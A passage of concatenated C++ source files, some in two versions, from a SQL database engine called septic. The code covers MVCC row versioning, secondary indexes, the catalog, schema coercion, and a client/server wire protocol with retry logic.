      throw StorageError("index '" + index_name + "' already exists");
    }
  }
  int col = schema_.column_index(column);
  if (col < 0) {
    throw StorageError("unknown column '" + column + "' for index");
  }
  SecondaryIndex idx;
  idx.name = index_name;
  idx.column = static_cast<size_t>(col);
  for (size_t slot = 0; slot < rows_.size(); ++slot) {
    if (live_[slot]) {
      index_add_entry(idx, index_key_value(idx.column, rows_[slot][idx.column]),
                      slot);
    }
  }
  // Chained old versions are indexed too, so a transaction whose snapshot
  // predates this CREATE INDEX reads correctly through the new index.
  for (const auto& [slot, chain] : old_versions_) {
    for (const auto& v : chain) {
      index_add_entry(idx, index_key_value(idx.column, v.row[idx.column]),
                      slot);
    }
  }
  indexes_.push_back(std::move(idx));
}

void Table::drop_index(const std::string& index_name) {
  std::unique_lock lock(mu_);
  for (auto it = indexes_.begin(); it != indexes_.end(); ++it) {
    if (it->name == index_name) {
      indexes_.erase(it);
      return;
    }
  }
  throw StorageError("unknown index '" + index_name + "'");
}

bool Table::has_index_on(std::string_view column) const {
  std::shared_lock lock(mu_);
  int col = schema_.column_index(column);
  if (col < 0) return false;
  for (const auto& idx : indexes_) {
    if (idx.column == static_cast<size_t>(col)) return true;
  }
  return false;
}

std::vector<size_t> Table::index_lookup(std::string_view column,
                                        const sql::Value& key) const {
  std::shared_lock lock(mu_);
  int col = schema_.column_index(column);
  std::vector<size_t> out;
  if (col < 0) return out;
  auto pi = static_cast<size_t>(col);
  sql::Value probe = schema_.coerce_to_column(pi, key);
  for (const auto& idx : indexes_) {
    if (idx.column != pi) continue;
    sql::Value k = index_key_value(pi, probe);
    auto [begin, end] = idx.map.equal_range(k);
    for (auto it = begin; it != end; ++it) {
      // Entries may belong to chained versions only; the legacy lookup
      // answers for current images.
      size_t slot = it->second;
      if (slot < rows_.size() && live_[slot] &&
          index_key_eq(index_key_value(pi, rows_[slot][pi]), k)) {
        out.push_back(slot);
      }
    }
    return out;
  }
  return out;
}

std::vector<std::string> Table::index_names() const {
  std::shared_lock lock(mu_);
  std::vector<std::string> out;
  for (const auto& idx : indexes_) out.push_back(idx.name);
  return out;
}

std::vector<std::pair<std::string, std::string>> Table::index_defs() const {
  std::shared_lock lock(mu_);
  std::vector<std::pair<std::string, std::string>> out;
  for (const auto& idx : indexes_) {
    out.emplace_back(idx.name, schema_.column(idx.column).name);
  }
  return out;
}

int64_t Table::find_by_pk(const sql::Value& key) const {
  if (schema_.primary_key_index() < 0) return -1;
  // Coerce the probe to the PK column type so '7' finds 7.
  sql::Value probe = schema_.coerce_to_column(
      static_cast<size_t>(schema_.primary_key_index()), key);
  auto it = pk_index_.find(pk_key(probe));
  if (it == pk_index_.end()) return -1;
  return static_cast<int64_t>(it->second);
}

}  // namespace septic::storage

#include "storage/table.h"

#include <cassert>
#include <mutex>

#include "common/string_util.h"

namespace septic::storage {

Table::Table(TableSchema schema) : schema_(std::move(schema)) {}

std::string Table::pk_key(const sql::Value& v) const { return v.repr(); }

void Table::check_not_null(const Row& row) const {
  for (size_t i = 0; i < schema_.column_count(); ++i) {
    if (schema_.column(i).not_null && row[i].is_null()) {
      throw StorageError("column '" + schema_.column(i).name +
                         "' cannot be NULL");
    }
  }
}

Table::InsertResult Table::insert_locked(Row row, uint64_t begin_ts) {
  if (row.size() != schema_.column_count()) {
    throw StorageError("column count mismatch for table '" + schema_.name() +
                       "'");
  }
  for (size_t i = 0; i < row.size(); ++i) {
    row[i] = schema_.coerce_to_column(i, row[i]);
  }
  int pk = schema_.primary_key_index();
  sql::Value pk_value;
  if (pk >= 0) {
    auto pi = static_cast<size_t>(pk);
    if (row[pi].is_null() && schema_.column(pi).auto_increment) {
      row[pi] = sql::Value(auto_inc_);
    }
    if (row[pi].is_null()) {
      throw StorageError("primary key cannot be NULL");
    }
    if (pk_index_.count(pk_key(row[pi])) > 0) {
      throw StorageError("duplicate primary key " + row[pi].to_display() +
                         " in table '" + schema_.name() + "'");
    }
    pk_value = row[pi];
    if (schema_.column(pi).type == ColumnType::kInt) {
      int64_t v = row[pi].coerce_int();
      if (v >= auto_inc_) auto_inc_ = v + 1;
    }
  }
  check_not_null(row);
  size_t slot = rows_.size();
  if (pk >= 0) pk_index_[pk_key(row[static_cast<size_t>(pk)])] = slot;
  index_insert(slot, row);
  rows_.push_back(std::move(row));
  live_.push_back(true);
  begin_ts_.push_back(begin_ts);
  live_count_.fetch_add(1, std::memory_order_relaxed);
  return {slot, pk_value};
}

Table::InsertResult Table::insert(Row row) {
  return insert_locked(std::move(row), 0);
}

Table::InsertResult Table::insert_versioned(Row row, uint64_t begin_ts) {
  std::unique_lock lock(mu_);
  return insert_locked(std::move(row), begin_ts);
}

void Table::scan(const std::function<bool(size_t, const Row&)>& fn) const {
  for (size_t i = 0; i < rows_.size(); ++i) {
    if (!live_[i]) continue;
    if (!fn(i, rows_[i])) return;
  }
}

const Row& Table::row(size_t slot) const {
  assert(slot < rows_.size() && live_[slot]);
  return rows_[slot];
}

void Table::update_locked(
    size_t slot, const std::vector<std::pair<size_t, sql::Value>>& changes,
    bool record_old, uint64_t ts) {
  assert(slot < rows_.size() && live_[slot]);
  Row candidate = rows_[slot];
  int pk = schema_.primary_key_index();
  for (const auto& [col, value] : changes) {
    candidate[col] = schema_.coerce_to_column(col, value);
  }
  check_not_null(candidate);
  if (pk >= 0) {
    auto pi = static_cast<size_t>(pk);
    const std::string old_key = pk_key(rows_[slot][pi]);
    const std::string new_key = pk_key(candidate[pi]);
    if (old_key != new_key) {
      if (auto it = pk_index_.find(new_key);
          it != pk_index_.end() && it->second != slot) {
        throw StorageError("duplicate primary key on update in '" +
                           schema_.name() + "'");
      }
      pk_index_.erase(old_key);
      pk_index_[new_key] = slot;
    }
  }
  index_erase(slot, rows_[slot]);
  index_insert(slot, candidate);
  if (record_old) {
    old_versions_[slot].push_back({std::move(rows_[slot]), begin_ts_[slot], ts});
    old_version_count_.fetch_add(1, std::memory_order_release);
    if (ts > max_old_end_ts_) max_old_end_ts_ = ts;
    begin_ts_[slot] = ts;
  }
  rows_[slot] = std::move(candidate);
}

void Table::update(size_t slot,
                   const std::vector<std::pair<size_t, sql::Value>>& changes) {
  update_locked(slot, changes, /*record_old=*/false, 0);
}

void Table::update_versioned(
    size_t slot, const std::vector<std::pair<size_t, sql::Value>>& changes,
    uint64_t ts) {
  std::unique_lock lock(mu_);
  update_locked(slot, changes, /*record_old=*/true, ts);
}

void Table::erase(size_t slot) {
  assert(slot < rows_.size() && live_[slot]);
  int pk = schema_.primary_key_index();
  if (pk >= 0) pk_index_.erase(pk_key(rows_[slot][static_cast<size_t>(pk)]));
  index_erase(slot, rows_[slot]);
  live_[slot] = false;
  rows_[slot].clear();
  live_count_.fetch_sub(1, std::memory_order_relaxed);
}

void Table::erase_versioned(size_t slot, uint64_t ts) {
  std::unique_lock lock(mu_);
  assert(slot < rows_.size() && live_[slot]);
  int pk = schema_.primary_key_index();
  if (pk >= 0) pk_index_.erase(pk_key(rows_[slot][static_cast<size_t>(pk)]));
  index_erase(slot, rows_[slot]);
  old_versions_[slot].push_back({std::move(rows_[slot]), begin_ts_[slot], ts});
  old_version_count_.fetch_add(1, std::memory_order_release);
  if (ts > max_old_end_ts_) max_old_end_ts_ = ts;
  live_[slot] = false;
  rows_[slot].clear();
  live_count_.fetch_sub(1, std::memory_order_relaxed);
}

const Row* Table::visible_locked(size_t slot, uint64_t snapshot_ts) const {
  if (live_[slot] && begin_ts_[slot] <= snapshot_ts) return &rows_[slot];
  auto it = old_versions_.find(slot);
  if (it == old_versions_.end()) return nullptr;
  // Newest old image first: the chain is append-ordered by commit.
  for (auto v = it->second.rbegin(); v != it->second.rend(); ++v) {
    if (v->begin_ts <= snapshot_ts && snapshot_ts < v->end_ts) return &v->row;
  }
  return nullptr;
}

void Table::scan_snapshot(
    uint64_t snapshot_ts,
    const std::function<bool(size_t, const Row&)>& fn) const {
  std::shared_lock lock(mu_);
  for (size_t i = 0; i < rows_.size(); ++i) {
    if (const Row* r = visible_locked(i, snapshot_ts)) {
      if (!fn(i, *r)) return;
    }
  }
}

std::optional<Row> Table::fetch_snapshot(size_t slot,
                                         uint64_t snapshot_ts) const {
  std::shared_lock lock(mu_);
  if (slot >= rows_.size()) return std::nullopt;
  if (const Row* r = visible_locked(slot, snapshot_ts)) return *r;
  return std::nullopt;
}

std::optional<std::vector<std::pair<size_t, Row>>> Table::index_eq_snapshot(
    std::string_view column, const sql::Value& key,
    uint64_t snapshot_ts) const {
  std::shared_lock lock(mu_);
  // Indexes cover current images only, so they are incomplete exactly for
  // snapshots that can still see a superseded image. Every old version has
  // end_ts <= max_old_end_ts_ and is invisible to any snapshot >= its end,
  // so at or past the mark current images are the complete visible set and
  // the index is authoritative. Fresh autocommit snapshots always pass
  // (their snapshot is the published clock, which no recorded end_ts can
  // exceed); older transaction snapshots decline and the caller scans.
  if (snapshot_ts < max_old_end_ts_) {
    return std::nullopt;
  }
  std::vector<std::pair<size_t, Row>> out;
  int col = schema_.column_index(column);
  if (col < 0) return out;
  auto pi = static_cast<size_t>(col);
  sql::Value probe = schema_.coerce_to_column(pi, key);
  auto emit = [&](size_t slot) {
    if (slot < rows_.size() && live_[slot] && begin_ts_[slot] <= snapshot_ts) {
      out.emplace_back(slot, rows_[slot]);
    }
  };
  if (schema_.primary_key_index() == col) {
    auto it = pk_index_.find(pk_key(probe));
    if (it != pk_index_.end()) emit(it->second);
    return out;
  }
  for (const auto& idx : indexes_) {
    if (idx.column != pi) continue;
    std::string k = schema_.column(pi).type == ColumnType::kText &&
                            !probe.is_null()
                        ? sql::Value(common::to_lower(probe.coerce_string()))
                              .repr()
                        : probe.repr();
    auto [begin, end] = idx.map.equal_range(k);
    for (auto it = begin; it != end; ++it) emit(it->second);
    return out;
  }
  return out;
}

bool Table::slot_live(size_t slot) const {
  std::shared_lock lock(mu_);
  return slot < rows_.size() && live_[slot];
}

uint64_t Table::slot_begin_ts(size_t slot) const {
  std::shared_lock lock(mu_);
  assert(slot < rows_.size() && live_[slot]);
  return begin_ts_[slot];
}

int64_t Table::reserve_auto_increment() {
  std::unique_lock lock(mu_);
  return auto_inc_++;
}

void Table::maybe_advance_auto_increment(int64_t v) {
  std::unique_lock lock(mu_);
  if (v >= auto_inc_) auto_inc_ = v + 1;
}

size_t Table::vacuum(uint64_t horizon) {
  std::unique_lock lock(mu_);
  size_t freed = 0;
  for (auto it = old_versions_.begin(); it != old_versions_.end();) {
    auto& chain = it->second;
    size_t kept = 0;
    for (size_t i = 0; i < chain.size(); ++i) {
      if (chain[i].end_ts <= horizon) {
        ++freed;
      } else {
        if (kept != i) chain[kept] = std::move(chain[i]);
        ++kept;
      }
    }
    chain.resize(kept);
    it = chain.empty() ? old_versions_.erase(it) : std::next(it);
  }
  if (freed != 0) old_version_count_.fetch_sub(freed, std::memory_order_release);
  return freed;
}

void Table::undo_insert(size_t slot) {
  std::unique_lock lock(mu_);
  assert(slot < rows_.size() && live_[slot]);
  int pk = schema_.primary_key_index();
  if (pk >= 0) pk_index_.erase(pk_key(rows_[slot][static_cast<size_t>(pk)]));
  index_erase(slot, rows_[slot]);
  live_[slot] = false;
  rows_[slot].clear();
  live_count_.fetch_sub(1, std::memory_order_relaxed);
}

void Table::undo_update(size_t slot) {
  std::unique_lock lock(mu_);
  assert(slot < rows_.size() && live_[slot]);
  auto it = old_versions_.find(slot);
  assert(it != old_versions_.end() && !it->second.empty());
  OldVersion prev = std::move(it->second.back());
  it->second.pop_back();
  if (it->second.empty()) old_versions_.erase(it);
  old_version_count_.fetch_sub(1, std::memory_order_release);
  int pk = schema_.primary_key_index();
  if (pk >= 0) {
    auto pi = static_cast<size_t>(pk);
    pk_index_.erase(pk_key(rows_[slot][pi]));
    pk_index_[pk_key(prev.row[pi])] = slot;
  }
  index_erase(slot, rows_[slot]);
  index_insert(slot, prev.row);
  rows_[slot] = std::move(prev.row);
  begin_ts_[slot] = prev.begin_ts;
}

void Table::undo_erase(size_t slot) {
  std::unique_lock lock(mu_);
  assert(slot < rows_.size() && !live_[slot]);
  auto it = old_versions_.find(slot);
  assert(it != old_versions_.end() && !it->second.empty());
  OldVersion prev = std::move(it->second.back());
  it->second.pop_back();
  if (it->second.empty()) old_versions_.erase(it);
  old_version_count_.fetch_sub(1, std::memory_order_release);
  int pk = schema_.primary_key_index();
  if (pk >= 0) {
    pk_index_[pk_key(prev.row[static_cast<size_t>(pk)])] = slot;
  }
  index_insert(slot, prev.row);
  rows_[slot] = std::move(prev.row);
  begin_ts_[slot] = prev.begin_ts;
  live_[slot] = true;
  live_count_.fetch_add(1, std::memory_order_relaxed);
}

void Table::pad_slots(size_t slot_count) {
  while (rows_.size() < slot_count) {
    rows_.emplace_back();
    live_.push_back(false);
    begin_ts_.push_back(0);
  }
}

void Table::load_row_at_slot(size_t slot, Row row) {
  if (slot < rows_.size()) {
    throw StorageError("checkpoint: slots out of order in table '" +
                       schema_.name() + "'");
  }
  if (row.size() != schema_.column_count()) {
    throw StorageError("checkpoint: column count mismatch for table '" +
                       schema_.name() + "'");
  }
  pad_slots(slot);
  int pk = schema_.primary_key_index();
  if (pk >= 0) {
    auto pi = static_cast<size_t>(pk);
    if (row[pi].is_null()) {
      throw StorageError("checkpoint: NULL primary key in table '" +
                         schema_.name() + "'");
    }
    if (!pk_index_.emplace(pk_key(row[pi]), slot).second) {
      throw StorageError("checkpoint: duplicate primary key in table '" +
                         schema_.name() + "'");
    }
  }
  index_insert(slot, row);
  rows_.push_back(std::move(row));
  live_.push_back(true);
  begin_ts_.push_back(0);
  live_count_.fetch_add(1, std::memory_order_relaxed);
}

namespace {
/// Index keys must agree with eval's comparison semantics: TEXT compares
/// ASCII-case-insensitively, so text keys are folded before hashing.
std::string index_key(const TableSchema& schema, size_t column,
                      const sql::Value& v) {
  if (schema.column(column).type == ColumnType::kText && !v.is_null()) {
    return sql::Value(common::to_lower(v.coerce_string())).repr();
  }
  return v.repr();
}
}  // namespace

void Table::index_insert(size_t slot, const Row& row) {
  for (auto& idx : indexes_) {
    idx.map.emplace(index_key(schema_, idx.column, row[idx.column]), slot);
  }
}

void Table::index_erase(size_t slot, const Row& row) {
  for (auto& idx : indexes_) {
    auto [begin, end] =
        idx.map.equal_range(index_key(schema_, idx.column, row[idx.column]));
    for (auto it = begin; it != end; ++it) {
      if (it->second == slot) {
        idx.map.erase(it);
        break;
      }
    }
  }
}

void Table::create_index(const std::string& index_name,
                         const std::string& column) {
  for (const auto& idx : indexes_) {
    if (idx.name == index_name) {
      throw StorageError("index '" + index_name + "' already exists");
    }
  }
  int col = schema_.column_index(column);
  if (col < 0) {
    throw StorageError("unknown column '" + column + "' for index");
  }
  SecondaryIndex idx;
  idx.name = index_name;
  idx.column = static_cast<size_t>(col);
  for (size_t slot = 0; slot < rows_.size(); ++slot) {
    if (live_[slot]) {
      idx.map.emplace(index_key(schema_, idx.column, rows_[slot][idx.column]),
                      slot);
    }
  }
  indexes_.push_back(std::move(idx));
}

void Table::drop_index(const std::string& index_name) {
  for (auto it = indexes_.begin(); it != indexes_.end(); ++it) {
    if (it->name == index_name) {
      indexes_.erase(it);
      return;
    }
  }
  throw StorageError("unknown index '" + index_name + "'");
}

bool Table::has_index_on(std::string_view column) const {
  int col = schema_.column_index(column);
  if (col < 0) return false;
  for (const auto& idx : indexes_) {
    if (idx.column == static_cast<size_t>(col)) return true;
  }
  return false;
}

std::vector<size_t> Table::index_lookup(std::string_view column,
                                        const sql::Value& key) const {
  int col = schema_.column_index(column);
  std::vector<size_t> out;
  if (col < 0) return out;
  sql::Value probe = schema_.coerce_to_column(static_cast<size_t>(col), key);
  for (const auto& idx : indexes_) {
    if (idx.column != static_cast<size_t>(col)) continue;
    auto [begin, end] =
        idx.map.equal_range(index_key(schema_, idx.column, probe));
    for (auto it = begin; it != end; ++it) out.push_back(it->second);
    return out;
  }
  return out;
}

std::vector<std::string> Table::index_names() const {
  std::vector<std::string> out;
  for (const auto& idx : indexes_) out.push_back(idx.name);
  return out;
}

std::vector<std::pair<std::string, std::string>> Table::index_defs() const {
  std::vector<std::pair<std::string, std::string>> out;
  for (const auto& idx : indexes_) {
    out.emplace_back(idx.name, schema_.column(idx.column).name);
  }
  return out;
}

int64_t Table::find_by_pk(const sql::Value& key) const {
  if (schema_.primary_key_index() < 0) return -1;
  // Coerce the probe to the PK column type so '7' finds 7.
  sql::Value probe = schema_.coerce_to_column(
      static_cast<size_t>(schema_.primary_key_index()), key);
  auto it = pk_index_.find(pk_key(probe));
  if (it == pk_index_.end()) return -1;
  return static_cast<int64_t>(it->second);
}

}  // namespace septic::storage

// The database catalog: named tables plus snapshot persistence. A catalog is
// single-database (MySQL "schema"); the engine owns one per Database.
//
// Persistence format is line-oriented text:
//   T <name>
//   C <name> <type> <flags: p=pk, n=not_null, a=auto_inc> [D <value-repr>]
//   A <next_auto_increment>
//   R <value-repr>|<value-repr>|...   (| is safe: reprs are length-prefixed)
//   I <index-name> <column>           (secondary indexes, rebuilt on load)
//   .
#pragma once

#include <map>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "storage/table.h"

namespace septic::storage {

class Catalog {
 public:
  /// Create a table; throws StorageError if it exists (unless
  /// `if_not_exists`).
  Table& create_table(TableSchema schema, bool if_not_exists = false);

  /// Drop a table; throws StorageError when missing (unless `if_exists`).
  void drop_table(std::string_view name, bool if_exists = false);

  /// Lookup; nullptr when absent. Case-insensitive, like MySQL on
  /// case-insensitive filesystems.
  Table* find(std::string_view name);
  const Table* find(std::string_view name) const;

  /// Lookup or throw StorageError("table ... doesn't exist").
  Table& require(std::string_view name);

  std::vector<std::string> table_names() const;
  size_t table_count() const { return tables_.size(); }

  /// Serialize every table (schema + rows) to the snapshot format.
  std::string save_snapshot() const;
  /// Rebuild the catalog from a snapshot; throws StorageError on malformed
  /// input. Replaces current contents.
  void load_snapshot(std::string_view data);

  /// Serialize one table to its snapshot block (same format). Throws when
  /// the table doesn't exist. Backs transactional DDL undo (DROP/TRUNCATE
  /// inside a transaction keeps a copy for ROLLBACK).
  std::string save_table_snapshot(std::string_view name) const;
  /// Restore (replace or re-create) the table serialized in `data`,
  /// leaving every other table untouched.
  void restore_table_snapshot(std::string_view data);

  /// File convenience wrappers (throw StorageError on I/O failure).
  void save_to_file(const std::string& path) const;
  void load_from_file(const std::string& path);

 private:
  static std::string key_of(std::string_view name);
  std::map<std::string, std::unique_ptr<Table>> tables_;  // key: lower name
};

}  // namespace septic::storage

#include "storage/schema.h"

#include "common/string_util.h"

namespace septic::storage {

TableSchema::TableSchema(std::string name, std::vector<ColumnDef> columns)
    : name_(std::move(name)), columns_(std::move(columns)) {
  for (size_t i = 0; i < columns_.size(); ++i) {
    if (columns_[i].primary_key) {
      pk_index_ = static_cast<int>(i);
      break;
    }
  }
}

TableSchema TableSchema::from_ast(const sql::CreateTableStmt& stmt) {
  std::vector<ColumnDef> cols;
  cols.reserve(stmt.columns.size());
  for (const auto& c : stmt.columns) {
    ColumnDef def;
    def.name = c.name;
    switch (c.type) {
      case sql::ColumnDefAst::Type::kInt: def.type = ColumnType::kInt; break;
      case sql::ColumnDefAst::Type::kDouble:
        def.type = ColumnType::kDouble;
        break;
      case sql::ColumnDefAst::Type::kText: def.type = ColumnType::kText; break;
    }
    def.not_null = c.not_null;
    def.primary_key = c.primary_key;
    def.auto_increment = c.auto_increment;
    def.default_value = c.default_value;
    cols.push_back(std::move(def));
  }
  return TableSchema(stmt.table, std::move(cols));
}

int TableSchema::column_index(std::string_view col) const {
  for (size_t i = 0; i < columns_.size(); ++i) {
    if (common::iequals(columns_[i].name, col)) return static_cast<int>(i);
  }
  return -1;
}

sql::Value TableSchema::coerce_to_column(size_t col, const sql::Value& v) const {
  if (v.is_null()) return v;
  switch (columns_[col].type) {
    case ColumnType::kInt:
      return sql::Value(v.coerce_int());
    case ColumnType::kDouble:
      return sql::Value(v.coerce_double());
    case ColumnType::kText:
      return sql::Value(v.coerce_string());
  }
  return v;
}

const char* column_type_name(ColumnType t) {
  switch (t) {
    case ColumnType::kInt: return "INT";
    case ColumnType::kDouble: return "DOUBLE";
    case ColumnType::kText: return "TEXT";
  }
  return "?";
}

}  // namespace septic::storage

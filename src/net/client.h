// Client connector. Any number of these — from any thread or process —
// can talk to one Server; no configuration is needed to benefit from the
// SEPTIC instance inside the server (the paper's "no client configuration"
// and "client diversity" features).
#pragma once

#include <cstdint>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "net/protocol.h"
#include "sqlcore/value.h"

namespace septic::net {

/// Raised when the server answers with an ERROR frame. The message starts
/// with the engine error code name ("BLOCKED: ..." for SEPTIC drops).
class RemoteError : public std::runtime_error {
 public:
  explicit RemoteError(std::string msg) : std::runtime_error(std::move(msg)) {}

  bool blocked() const {
    return std::string_view(what()).rfind("BLOCKED", 0) == 0;
  }
};

class Client {
 public:
  /// Connect to 127.0.0.1:port. Throws std::runtime_error on failure.
  explicit Client(uint16_t port);
  ~Client();

  Client(const Client&) = delete;
  Client& operator=(const Client&) = delete;

  /// Run one query; returns the reply payload (row text or OK summary).
  /// Throws RemoteError for server-side errors.
  std::string query(std::string_view sql);

  /// Prepare a template with '?' placeholders; returns the statement id.
  uint64_t prepare(std::string_view template_sql);

  /// Execute a prepared statement with positionally bound parameters.
  std::string execute(uint64_t stmt_id, const std::vector<sql::Value>& params);

  void quit();

 private:
  Frame roundtrip(const Frame& frame);

  int fd_ = -1;
  FrameDecoder decoder_;
};

}  // namespace septic::net

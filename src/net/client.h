// Client connector. Any number of these — from any thread or process —
// can talk to one Server; no configuration is needed to benefit from the
// SEPTIC instance inside the server (the paper's "no client configuration"
// and "client diversity" features).
//
// Fault handling: connect and per-I/O timeouts, plus query_with_retry() —
// bounded exponential backoff with jitter and automatic reconnect on
// transient socket failures. A server *reply* is never retried: BLOCKED is
// a SEPTIC verdict, not a fault (retrying an attack verdict would be a
// resubmission loop); only BUSY (connection-cap) replies are treated as
// transient.
#pragma once

#include <cstdint>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "net/protocol.h"
#include "sqlcore/value.h"

namespace septic::net {

/// Raised when the server answers with an ERROR frame. The message starts
/// with the engine error code name ("BLOCKED: ..." for SEPTIC drops).
class RemoteError : public std::runtime_error {
 public:
  explicit RemoteError(std::string msg) : std::runtime_error(std::move(msg)) {}

  bool blocked() const {
    return std::string_view(what()).rfind("BLOCKED", 0) == 0;
  }
  /// Connection-cap rejection ("BUSY: ...") — transient by contract.
  bool busy() const {
    return std::string_view(what()).rfind("BUSY", 0) == 0;
  }
};

struct ClientOptions {
  /// connect() deadline; 0 = the OS default (minutes).
  int connect_timeout_ms = 5000;
  /// Per-recv/send deadline (SO_RCVTIMEO/SO_SNDTIMEO); 0 = blocking.
  int io_timeout_ms = 0;
};

struct RetryPolicy {
  int max_attempts = 4;       // total tries, including the first
  int base_backoff_ms = 5;    // doubles each attempt ...
  int max_backoff_ms = 200;   // ... capped here; actual sleep is jittered
                              // uniformly in [backoff/2, backoff]
};

class Client {
 public:
  /// Connect to 127.0.0.1:port. Throws std::runtime_error on failure
  /// (including connect timeout).
  explicit Client(uint16_t port, ClientOptions options = {});
  ~Client();

  Client(const Client&) = delete;
  Client& operator=(const Client&) = delete;

  /// Run one query; returns the reply payload (row text or OK summary).
  /// Throws RemoteError for server-side errors, std::runtime_error for
  /// transport failures (after which the connection is dead; see
  /// reconnect()).
  std::string query(std::string_view sql);

  /// query() + fault tolerance: on a transport failure (send/recv error,
  /// server closed mid-exchange, timeout) or a BUSY reply, reconnects and
  /// retries with capped exponential backoff + jitter, up to
  /// policy.max_attempts. Any other server reply — BLOCKED above all — is
  /// surfaced immediately, never retried.
  std::string query_with_retry(std::string_view sql,
                               const RetryPolicy& policy = {});

  /// Prepare a template with '?' placeholders; returns the statement id.
  /// A template SEPTIC blocks is refused here — the server never issues an
  /// id for it (the RemoteError's blocked() is true).
  uint64_t prepare(std::string_view template_sql);

  /// Execute a prepared statement with positionally bound parameters.
  std::string execute(uint64_t stmt_id, const std::vector<sql::Value>& params);

  /// Deallocate a prepared statement on the server (frees its registry
  /// slot before the cap forces an eviction).
  void close_stmt(uint64_t stmt_id);

  // --- pipelining ------------------------------------------------------
  // post_*() sends a request without waiting; read_reply() collects the
  // replies strictly in post order (the server guarantees reply order
  // matches request order per connection). Mixing post_*() with the
  // synchronous calls above is allowed only when pending() == 0.

  /// Send a QUERY frame; the reply is owed (pending() goes up by one).
  void post_query(std::string_view sql);
  /// Send an EXEC frame for a prepared statement; the reply is owed.
  void post_execute(uint64_t stmt_id, const std::vector<sql::Value>& params);
  /// Collect the oldest owed reply. Returns the payload (row text or OK
  /// summary); throws RemoteError for server-side errors — the reply is
  /// consumed either way, so pipelined errors don't desynchronize the
  /// stream. Throws std::runtime_error when nothing is pending.
  std::string read_reply();
  /// Replies owed by the server (posts minus reads). Reset on reconnect.
  size_t pending() const { return pending_; }

  /// Tear down and re-establish the connection. Prepared statement ids do
  /// NOT survive a reconnect (they are per-connection server state).
  void reconnect();
  bool connected() const { return fd_ >= 0; }

  /// Transport retries performed by query_with_retry over this client's
  /// lifetime (observability for the flapping-server tests and benches).
  uint64_t retries() const { return retries_; }

  void quit();

 private:
  void connect();
  void close_fd();
  void send_frame(const Frame& frame);
  Frame recv_frame();
  Frame roundtrip(const Frame& frame);

  int fd_ = -1;
  uint16_t port_ = 0;
  ClientOptions options_;
  FrameDecoder decoder_;
  size_t pending_ = 0;
  uint64_t retries_ = 0;
  uint64_t jitter_state_ = 0;
};

}  // namespace septic::net

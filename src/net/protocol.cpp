#include "net/protocol.h"

#include <cstring>
#include <stdexcept>

namespace septic::net {

std::string encode_frame(const Frame& frame) {
  uint32_t len = static_cast<uint32_t>(frame.payload.size() + 1);
  std::string out;
  out.reserve(4 + len);
  for (int i = 0; i < 4; ++i) {
    out += static_cast<char>((len >> (i * 8)) & 0xff);
  }
  out += static_cast<char>(frame.op);
  out += frame.payload;
  return out;
}

void FrameDecoder::feed(std::string_view bytes) {
  buffer_.append(bytes.data(), bytes.size());
}

std::optional<Frame> FrameDecoder::next() {
  if (buffer_.size() < 4) return std::nullopt;
  uint32_t len = 0;
  for (int i = 0; i < 4; ++i) {
    len |= static_cast<uint32_t>(static_cast<unsigned char>(buffer_[i]))
           << (i * 8);
  }
  if (len == 0) {
    throw std::runtime_error("malformed frame: bad length");
  }
  if (len > max_frame_size_) {
    throw FrameTooLarge(len, max_frame_size_);
  }
  if (buffer_.size() < 4 + static_cast<size_t>(len)) return std::nullopt;
  uint8_t op = static_cast<uint8_t>(buffer_[4]);
  if (op < 1 || op > 7) throw std::runtime_error("malformed frame: bad opcode");
  Frame frame;
  frame.op = static_cast<Opcode>(op);
  frame.payload = buffer_.substr(5, len - 1);
  buffer_.erase(0, 4 + len);
  return frame;
}

}  // namespace septic::net

#include "net/protocol.h"

#include <cstring>
#include <stdexcept>

namespace septic::net {

std::string encode_frame(const Frame& frame) {
  uint32_t len = static_cast<uint32_t>(frame.payload.size() + 1);
  std::string out;
  out.reserve(4 + len);
  for (int i = 0; i < 4; ++i) {
    out += static_cast<char>((len >> (i * 8)) & 0xff);
  }
  out += static_cast<char>(frame.op);
  out += frame.payload;
  return out;
}

void FrameDecoder::feed(std::string_view bytes) {
  // Compact before growing: drop the consumed prefix when it dominates the
  // buffer (so memory stays proportional to undecoded bytes) or when the
  // buffer is fully drained (free O(1) reset). The 4 KiB floor keeps tiny
  // interleaved feed/next cycles from memmoving on every frame.
  if (pos_ == buffer_.size()) {
    buffer_.clear();
    pos_ = 0;
  } else if (pos_ >= 4096 && pos_ >= buffer_.size() - pos_) {
    buffer_.erase(0, pos_);
    pos_ = 0;
  }
  buffer_.append(bytes.data(), bytes.size());
}

std::optional<Frame> FrameDecoder::next() {
  const size_t avail = buffer_.size() - pos_;
  if (avail < 4) return std::nullopt;
  uint32_t len = 0;
  for (int i = 0; i < 4; ++i) {
    len |= static_cast<uint32_t>(
               static_cast<unsigned char>(buffer_[pos_ + static_cast<size_t>(i)]))
           << (i * 8);
  }
  if (len == 0) {
    throw std::runtime_error("malformed frame: bad length");
  }
  if (len > max_frame_size_) {
    throw FrameTooLarge(len, max_frame_size_);
  }
  if (avail < 4 + static_cast<size_t>(len)) return std::nullopt;
  uint8_t op = static_cast<uint8_t>(buffer_[pos_ + 4]);
  if (op < 1 || op > 8) throw std::runtime_error("malformed frame: bad opcode");
  Frame frame;
  frame.op = static_cast<Opcode>(op);
  frame.payload = buffer_.substr(pos_ + 5, len - 1);
  pos_ += 4 + static_cast<size_t>(len);
  if (pos_ == buffer_.size()) {
    buffer_.clear();
    pos_ = 0;
  }
  return frame;
}

}  // namespace septic::net

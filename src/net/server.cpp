#include "net/server.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <charconv>
#include <cstring>
#include <stdexcept>

#include "common/failpoint.h"
#include "common/log.h"
#include "engine/error.h"
#include "net/protocol.h"

namespace septic::net {

namespace {

/// Best-effort whole-frame send on a (possibly nonblocking) socket,
/// used only off the hot path: the BUSY verdict at accept time. EINTR is
/// a retry, not a dead peer.
bool send_frame_now(int fd, const Frame& frame) {
  std::string bytes = encode_frame(frame);
  size_t sent = 0;
  while (sent < bytes.size()) {
    ssize_t w =
        ::send(fd, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
    if (w < 0 && errno == EINTR) continue;
    if (w <= 0) return false;
    sent += static_cast<size_t>(w);
  }
  return true;
}

/// Strict unsigned parse: the WHOLE of `s` must be digits that fit — no
